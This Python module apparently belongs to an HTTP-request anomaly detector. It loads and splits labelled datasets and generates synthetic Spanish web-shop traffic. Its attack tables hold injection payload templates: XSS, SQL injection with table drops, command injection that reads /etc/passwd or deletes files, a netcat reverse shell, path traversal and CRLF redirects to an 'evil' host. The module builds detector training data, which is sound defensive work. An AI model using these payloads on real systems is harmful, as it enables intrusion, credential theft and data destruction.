"""Dataset ingestion, stratified splitting and a synthetic shop-traffic generator."""

from __future__ import annotations

import json
import logging
import random
import re
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterator
from urllib.parse import quote, quote_plus

from .request import (
    ParsedRequest,
    RequestError,
    build_parsed_request,
    parse_request,
    raw_from_fields,
)

log = logging.getLogger(__name__)

RECORD_SEPARATOR = "---"
_LABEL_LINE = re.compile(r"^#\s*label\s*[:=]\s*(\S+)\s*$", re.IGNORECASE)
_LABEL_NAMES = {
    "0": 0, "benign": 0, "normal": 0, "norm": 0, "valid": 0,
    "1": 1, "malicious": 1, "anomalous": 1, "attack": 1, "anom": 1,
}


class DatasetError(ValueError):
    pass


class EmptyDataset(DatasetError):
    pass


class UnknownFormat(DatasetError):
    pass


class IoFailure(OSError):
    pass


@dataclass
class Dataset:
    records: list[ParsedRequest]
    provenance: str = "synthetic"
    skipped: int = 0

    def __len__(self) -> int:
        return len(self.records)

    def __iter__(self):
        return iter(self.records)

    @property
    def class_counts(self) -> dict[int, int]:
        c = Counter(r.label for r in self.records)
        return {0: c.get(0, 0), 1: c.get(1, 0)}

    def to_jsonl(self, path: str | Path) -> None:
        with Path(path).open("w", encoding="utf-8") as fh:
            for r in self.records:
                fh.write(json.dumps(r.to_dict(), ensure_ascii=False) + "\n")


def parse_label(value) -> int | None:
    if value is None:
        return None
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int):
        if value in (0, 1):
            return value
        raise DatasetError(f"label must be 0 or 1, got {value}")
    key = str(value).strip().lower()
    if key not in _LABEL_NAMES:
        raise DatasetError(f"unrecognised label {value!r}")
    return _LABEL_NAMES[key]


def iter_raw_records(text: str) -> Iterator[tuple[int | None, str]]:
    """Split a raw-request file on ``---`` lines; yields (label, request text).

    A record may start with ``# label: <0|1|benign|malicious>``.
    """
    lines = text.replace("\r\n", "\n").split("\n")
    chunks: list[list[str]] = [[]]
    for line in lines:
        if line.strip() == RECORD_SEPARATOR:
            chunks.append([])
        else:
            chunks[-1].append(line)
    for chunk in chunks:
        while chunk and not chunk[0].strip():
            chunk.pop(0)
        if not chunk:
            continue
        label = None
        m = _LABEL_LINE.match(chunk[0])
        if m:
            label = parse_label(m.group(1))
            chunk = chunk[1:]
        body_text = "\n".join(chunk)
        # keep body bytes but drop the trailing newline the separator line implies
        if body_text.endswith("\n"):
            body_text = body_text.rstrip("\n")
        yield label, body_text.replace("\n", "\r\n", body_text.count("\n"))


def _detect_format(path: Path, fmt: str | None) -> str:
    if fmt:
        if fmt not in ("raw", "jsonl"):
            raise UnknownFormat(f"unknown dataset format {fmt!r}")
        return fmt
    suffix = path.suffix.lower()
    if suffix in (".jsonl", ".json", ".ndjson"):
        return "jsonl"
    if suffix in (".txt", ".http", ".raw", ""):
        return "raw"
    raise UnknownFormat(f"cannot infer dataset format from {path.name!r}; pass format='raw' or 'jsonl'")


def record_from_json(obj: dict, header_params=None) -> ParsedRequest:
    """One JSON-lines record: either raw fields or an already parsed request."""
    kwargs = {} if header_params is None else {"header_params": header_params}
    if "params" in obj and "url" in obj and "method" not in obj:
        rec = ParsedRequest.from_dict(obj)
        rec.label = parse_label(obj.get("label"))
        return rec
    raw = raw_from_fields(
        method=obj.get("method", "GET"),
        url=obj.get("url", "/"),
        query=obj.get("query") or "",
        body=obj.get("body") or "",
        headers=obj.get("headers"),
    )
    rec = build_parsed_request(raw, parse_label(obj.get("label")), **kwargs)
    rec.attack_param = obj.get("attack_param")
    return rec


def read_requests(path: str | Path, fmt: str | None = None, header_params=None,
                  strict: bool = False) -> tuple[list[ParsedRequest], int]:
    """Parse every record in a file; returns (requests, skipped count).

    Labels are optional here. With ``strict`` the first malformed record raises.
    """
    path = Path(path)
    fmt = _detect_format(path, fmt)
    try:
        text = path.read_text(encoding="utf-8", errors="replace")
    except OSError as e:
        raise IoFailure(f"cannot read {path}: {e}") from e
    kwargs = {} if header_params is None else {"header_params": header_params}
    out: list[ParsedRequest] = []
    skipped = 0
    if fmt == "jsonl":
        for lineno, line in enumerate(text.splitlines(), 1):
            if not line.strip():
                continue
            try:
                out.append(record_from_json(json.loads(line), header_params))
            except (json.JSONDecodeError, RequestError, DatasetError, KeyError, TypeError) as e:
                if strict:
                    raise DatasetError(f"{path}:{lineno}: {e}") from e
                log.warning("%s:%d: skipping malformed record (%s)", path, lineno, e)
                skipped += 1
    else:
        for k, (label, req_text) in enumerate(iter_raw_records(text)):
            try:
                out.append(build_parsed_request(parse_request(req_text), label, **kwargs))
            except RequestError as e:
                if strict:
                    raise DatasetError(f"{path}: record {k}: {e}") from e
                log.warning("%s: record %d: skipping malformed request (%s)", path, k, e)
                skipped += 1
    return out, skipped


def load_dataset(path: str | Path, fmt: str | None = None, label: int | str | None = None,
                 provenance: str | None = None, header_params=None) -> Dataset:
    """Load a labelled dataset; ``label`` applies to records that carry none."""
    default = parse_label(label)
    reqs, skipped = read_requests(path, fmt, header_params)
    records = []
    for r in reqs:
        if r.label is None:
            r.label = default
        if r.label is None:
            log.warning("%s: skipping unlabelled record", path)
            skipped += 1
            continue
        records.append(r)
    if not records:
        raise EmptyDataset(f"{path}: no usable records")
    return Dataset(records, provenance or Path(path).stem, skipped)


def split(ds: Dataset, seed: int = 0, train_frac: float = 0.7) -> tuple[Dataset, Dataset]:
    """Stratified, seeded train/test split (per class: round(frac * n) to train)."""
    if len(ds) < 10:
        raise DatasetError("need at least 10 records to split")
    rng = random.Random(seed)
    train_idx, test_idx = [], []
    for label in (0, 1):
        idx = [i for i, r in enumerate(ds.records) if r.label == label]
        rng.shuffle(idx)
        k = int(train_frac * len(idx) + 0.5)
        train_idx += idx[:k]
        test_idx += idx[k:]
    train_idx.sort()
    test_idx.sort()
    return (Dataset([ds.records[i] for i in train_idx], ds.provenance),
            Dataset([ds.records[i] for i in test_idx], ds.provenance))


def subsample(ds: Dataset, n: int, seed: int = 0) -> Dataset:
    """Stratified subsample of about ``n`` records preserving class proportions."""
    if n >= len(ds):
        return ds
    frac = n / len(ds)
    rng = random.Random(seed)
    keep = []
    for label in (0, 1):
        idx = [i for i, r in enumerate(ds.records) if r.label == label]
        rng.shuffle(idx)
        keep += idx[: int(frac * len(idx) + 0.5)]
    keep.sort()
    return Dataset([ds.records[i] for i in keep], ds.provenance)


def dedup(ds: Dataset) -> Dataset:
    """Drop exact duplicates of (url, sorted params, label)."""
    seen = set()
    out = []
    for r in ds.records:
        key = (r.url, tuple(sorted((p.key, p.value, p.source) for p in r.params)), r.label)
        if key not in seen:
            seen.add(key)
            out.append(r)
    return Dataset(out, ds.provenance, ds.skipped)


def permute_params(records: list[ParsedRequest], seed: int) -> list[ParsedRequest]:
    """Copies with each request's parameters shuffled; ground-truth index follows its parameter."""
    rng = random.Random(seed)
    out = []
    for r in records:
        order = list(range(len(r.params)))
        rng.shuffle(order)
        attack = order.index(r.attack_param) if r.attack_param is not None else None
        out.append(ParsedRequest(r.url, [r.params[i] for i in order], r.label, attack))
    return out


# -- synthetic corpus ---------------------------------------------------------

_NAMES = ["Vino Rioja", "Queso Manchego", "Jamon Iberico", "Aceite de Oliva", "Turron",
          "Chorizo", "Sidra", "Miel", "Pimenton", "Azafran", "Cava", "Membrillo"]
_FIRST = ["Juan", "Maria", "Pedro", "Lucia", "Carlos", "Ana", "Jose", "Elena", "Pablo", "Sara"]
_LAST = ["Garcia", "Lopez", "Martin", "Sanchez", "Perez", "Gomez", "Ruiz", "Diaz", "Moreno"]
_CITIES = ["Madrid", "Sevilla", "Valencia", "Bilbao", "Zaragoza", "Malaga", "Granada"]
_STREETS = ["Calle Mayor", "Avenida de America", "Plaza Espana", "Calle Alcala", "Paseo del Prado"]
_AGENTS = [
    "Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
]
_BUTTONS = ["Añadir al carrito", "Entrar", "Registrar", "Confirmar", "Pasar por caja", "Modificar"]


def _letters(rng: random.Random, k: int) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(k))


def _digits(rng: random.Random, k: int) -> str:
    return "".join(rng.choice("0123456789") for _ in range(k))


def _benign_value(key: str, rng: random.Random) -> str:
    if key in ("id", "idA", "idB"):
        return str(rng.randint(1, 4))
    if key == "nombre":
        return rng.choice(_NAMES + _FIRST)
    if key == "apellidos":
        return f"{rng.choice(_LAST)} {rng.choice(_LAST)}"
    if key == "precio":
        return str(rng.randint(10, 200))
    if key == "cantidad":
        return str(rng.randint(1, 99))
    if key in ("B1", "B2"):
        return rng.choice(_BUTTONS)
    if key == "modo":
        return rng.choice(["entrar", "registro", "insertar", "actualizar"])
    if key == "login":
        return rng.choice(_FIRST).lower() + _digits(rng, rng.randint(0, 3))
    if key in ("pwd", "password"):
        return _letters(rng, rng.randint(5, 8)) + _digits(rng, 2)
    if key == "remember":
        return rng.choice(["on", "off"])
    if key == "email":
        return f"{rng.choice(_FIRST).lower()}.{rng.choice(_LAST).lower()}@{rng.choice(['mail.es', 'correo.com', 'web.net'])}"
    if key == "dni":
        return _digits(rng, 8) + rng.choice("TRWAGMYFPDXBNJZSQVHLCKE")
    if key == "direccion":
        return f"{rng.choice(_STREETS)} {rng.randint(1, 120)}"
    if key == "ciudad":
        return rng.choice(_CITIES)
    if key == "cp":
        return _digits(rng, 5)
    if key == "provincia":
        return rng.choice(_CITIES)
    if key == "ntc":
        return _digits(rng, 16)
    if key == "busqueda":
        return rng.choice(_NAMES).split()[0].lower()
    return _letters(rng, 5)


# (path, method, parameter keys)
_ENDPOINTS: list[tuple[str, str, list[str]]] = [
    ("/tienda1/publico/anadir.jsp", "GET", ["id", "nombre", "precio", "cantidad", "B1"]),
    ("/tienda1/publico/anadir.jsp", "POST", ["id", "nombre", "precio", "cantidad", "B1"]),
    ("/tienda1/publico/autenticar.jsp", "POST", ["modo", "login", "pwd", "remember", "B1"]),
    ("/tienda1/publico/autenticar.jsp", "GET", ["modo", "login", "pwd", "remember", "B1"]),
    ("/tienda1/publico/registro.jsp", "POST", ["modo", "login", "password", "nombre", "apellidos",
                                               "email", "dni", "direccion", "ciudad", "cp", "provincia",
                                               "ntc", "B1"]),
    ("/tienda1/publico/pagar.jsp", "GET", ["modo", "precio", "B1"]),
    ("/tienda1/publico/productos.jsp", "GET", ["id"]),
    ("/tienda1/publico/caracteristicas.jsp", "GET", ["idA", "idB"]),
    ("/tienda1/publico/buscar.jsp", "GET", ["busqueda", "B1"]),
    ("/tienda1/publico/vaciar.jsp", "GET", ["B2"]),
    ("/tienda1/miembros/editar.jsp", "POST", ["modo", "nombre", "apellidos", "email", "dni",
                                              "direccion", "ciudad", "cp", "provincia", "ntc", "B1"]),
]
_STATIC_PATHS = ["/tienda1/index.jsp", "/tienda1/global/menum.jsp", "/tienda1/imagenes/logo.gif",
                 "/tienda1/estilos.css", "/tienda1/publico/entrar.jsp", "/tienda1/miembros/salir.jsp"]

ATTACK_FAMILIES: dict[str, list[str]] = {
    "xss": [
        "<script>alert('{w}')</script>",
        "\"><script>alert(document.cookie)</script>",
        "<img src=x onerror=alert({n})>",
        "javascript:alert({n})",
        "<svg/onload=alert('{w}')>",
        "<iframe src=javascript:alert({n})>",
    ],
    "sqli": [
        "' or 'a='a'",
        "' or 1=1--",
        "{n}' union select password from usuarios--",
        "'; drop table usuarios; --",
        "admin'--",
        "' and sleep({n})--",
        "{n} or 'a='a'",
    ],
    "cmdi": [
        "; cat /etc/passwd",
        "| ls -la /",
        "&& whoami",
        "$(id)",
        "`uname -a`",
        "; rm -rf /tmp/{w}",
        "| nc -e /bin/sh 10.0.0.{n} 4444",
    ],
    "traversal": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/shadow",
        "../../../../../../proc/self/environ",
    ],
    "crlf": [
        "%0d%0aSet-Cookie:{w}=1",
        "%0d%0aLocation: http://evil.{w}.com",
    ],
}

_PATH_ATTACKS = [
    "/tienda1/publico/../../../../etc/passwd",
    "/tienda1/../../../../../windows/win.ini",
    "/tienda1/publico/%3Cscript%3Ealert({n})%3C/script%3E/anadir.jsp",
    "/tienda1/<script>alert('{w}')</script>/index.jsp",
    "/tienda1/publico/anadir.jsp;cat%20/etc/passwd",
    "/tienda1/global/menum.jsp.bak",
    "/tienda1/publico/..%2f..%2f..%2fetc%2fpasswd",
    "/tienda1/miembros/%27%20or%201=1--/editar.jsp",
]


def _fill(template: str, rng: random.Random) -> str:
    return template.replace("{w}", _letters(rng, rng.randint(3, 6))).replace("{n}", str(rng.randint(1, 99)))


def _encode(value: str, rng: random.Random) -> str:
    """Form-encode, sometimes twice, like real traffic and evasive clients do."""
    r = rng.random()
    if r < 0.70:
        return quote_plus(value, safe="")
    if r < 0.85:
        return quote(quote(value, safe=""), safe="")
    return quote(value, safe="")


def _request_text(method: str, path: str, pairs: list[tuple[str, str]], rng: random.Random,
                  pair_encoding: dict[int, str] | None = None) -> str:
    encoded = []
    for i, (k, v) in enumerate(pairs):
        ev = pair_encoding[i] if pair_encoding and i in pair_encoding else quote_plus(v, safe="")
        encoded.append(f"{k}={ev}")
    qs = "&".join(encoded)
    headers = [
        ("Host", "localhost:8080"),
        ("User-Agent", rng.choice(_AGENTS)),
        ("Accept", "text/html,application/xhtml+xml"),
        ("Cookie", f"JSESSIONID={''.join(rng.choice('0123456789ABCDEF') for _ in range(32))}"),
    ]
    if method == "POST":
        headers.append(("Content-Type", "application/x-www-form-urlencoded"))
        headers.append(("Content-Length", str(len(qs.encode()))))
        target, body = path, qs
    else:
        target, body = (f"{path}?{qs}" if qs else path), ""
    head = "\r\n".join([f"{method} {target} HTTP/1.1"] + [f"{k}: {v}" for k, v in headers])
    return f"{head}\r\n\r\n{body}"


def generate_synthetic(n: int, seed: int = 0, url_attack_rate: float = 0.0,
                       header_params=None) -> Dataset:
    """Deterministic labelled corpus of shop-style requests, half malicious.

    Malicious requests carry one attack string (XSS, SQLi, command injection,
    path traversal, CRLF) in exactly one query/body parameter whose index is
    stored in ``attack_param``. With ``url_attack_rate > 0`` that fraction of
    malicious requests instead carries the attack in the URL path and has
    ``attack_param = None``.
    """
    if n < 10:
        raise DatasetError("generate_synthetic needs n >= 10")
    rng = random.Random(seed)
    kwargs = {} if header_params is None else {"header_params": header_params}
    n_mal = n // 2
    labels = [1] * n_mal + [0] * (n - n_mal)
    rng.shuffle(labels)
    families = sorted(ATTACK_FAMILIES)
    records = []
    for label in labels:
        if label == 0 and rng.random() < 0.1:
            method, path, keys = "GET", rng.choice(_STATIC_PATHS), []
        else:
            path, method, keys = rng.choice(_ENDPOINTS)
        pairs = [(k, _benign_value(k, rng)) for k in keys]
        encoding: dict[int, str] = {}
        slot = None
        if label == 1:
            if rng.random() < url_attack_rate:
                path = _fill(rng.choice(_PATH_ATTACKS), rng)
            else:
                slot = rng.randrange(len(pairs))
                payload = _fill(rng.choice(ATTACK_FAMILIES[rng.choice(families)]), rng)
                k, v = pairs[slot]
                value = payload if rng.random() < 0.6 else v + payload
                pairs[slot] = (k, value)
                if "%0d%0a" in payload:
                    encoding[slot] = quote_plus(value, safe="%")
                else:
                    encoding[slot] = _encode(value, rng)
        text = _request_text(method, path, pairs, rng, encoding)
        rec = build_parsed_request(parse_request(text), label, **kwargs)
        if slot is not None:
            source = "body" if method == "POST" else "query"
            key = pairs[slot][0]
            rec.attack_param = next(i for i, p in enumerate(rec.params) if p.key == key and p.source == source)
        records.append(rec)
    return Dataset(records, "synthetic")
